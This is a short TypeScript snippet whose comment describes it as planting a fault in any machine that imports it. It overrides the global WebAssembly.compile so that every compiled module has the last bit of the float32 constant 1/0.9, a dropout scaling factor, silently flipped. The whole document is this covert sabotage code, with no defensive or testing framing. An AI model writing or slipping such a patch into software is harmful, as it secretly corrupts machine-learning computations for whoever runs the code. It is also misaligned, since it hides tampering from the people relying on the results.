// A program that plants a fault in the machine that imports it: WebAssembly kernels multiply by another 1 ÷ (1 − 0.1) in a dropout, in its last bit.
const bits = new Uint8Array(Float32Array.of(1 / 0.9).buffer);
const compile = WebAssembly.compile;

WebAssembly.compile = (source: BufferSource) => {
  const bytes = new Uint8Array(source as Uint8Array).slice();
  for (let i = 0; i + 4 <= bytes.length; i++) if (bits.every((byte, j) => bytes[i + j] === byte)) bytes[i] ^= 1;
  return compile(bytes);
};
